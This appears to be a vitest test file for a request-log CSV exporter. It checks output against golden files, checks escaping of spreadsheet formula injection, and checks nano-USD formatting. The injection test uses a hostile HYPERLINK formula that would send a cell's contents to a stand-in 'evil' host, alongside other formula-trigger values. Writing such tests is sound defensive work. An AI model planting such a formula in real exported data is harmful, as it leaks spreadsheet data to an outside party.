import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import { describe, expect, it } from "vitest";
import type { RequestLog } from "../src/data/api";
import { csvLine, nanosToUsdText, REQUEST_LOG_COLUMNS, requestLogRecord } from "../src/pages/requests/requestLogsCsv";

// The Go export's golden files (internal/adminapi/export_golden_test.go):
// Convex mode's CSV must be byte for byte the service's.
// vitest runs from portal/ (npm test).
const testdata = (name: string) => resolve(process.cwd(), "../internal/adminapi/testdata", name);

describe("request-log CSV", () => {
  it("writes the same bytes as the service's export", () => {
    const page = JSON.parse(readFileSync(testdata("requestlogs_page.json"), "utf8")) as { page: RequestLog[] };
    const csv = csvLine(REQUEST_LOG_COLUMNS) + page.page.map((r) => csvLine(requestLogRecord(r))).join("");
    expect(csv).toBe(readFileSync(testdata("requestlogs.csv"), "utf8"));
  });

  it("prefixes text a spreadsheet would run with ', and leaves numbers alone", () => {
    const hostile = '=HYPERLINK("http://evil/?"&A1,"x")';
    const row = {
      _id: "r", _creationTime: 1, requestId: "r1", timestamp: 0, status: "error", statusCode: 502, requestType: "chat_completion",
      method: "POST", endpoint: "/api/v1/chat/completions", requestSize: -1, responseSize: 2, processingTime: 3,
      conversationId: hostile, messageId: "+m", model: "-evil/model", errorType: "@err", errorMessage: "\t=1", userAgent: "\r=2",
    } as unknown as RequestLog;
    expect(csvLine(requestLogRecord(row))).toBe(
      `1970-01-01T00:00:00.000Z,r1,error,502,,,"'=HYPERLINK(""http://evil/?""&A1,""x"")",'+m,'-evil/model,,,,,,,,,3,,-1,2,'@err,'\t=1,POST,/api/v1/chat/completions,"'\r=2",\n`,
    );
  });

  it("formats nano-USD exactly", () => {
    expect(nanosToUsdText(0)).toBe("0.000000000");
    expect(nanosToUsdText(7)).toBe("0.000000007");
    expect(nanosToUsdText(1_000_000_000)).toBe("1.000000000");
    expect(nanosToUsdText(-1_234_567_891)).toBe("-1.234567891");
    expect(nanosToUsdText(Number.MAX_SAFE_INTEGER)).toBe("9007199.254740991");
    expect(() => nanosToUsdText(0.5)).toThrow(RangeError);
  });
});
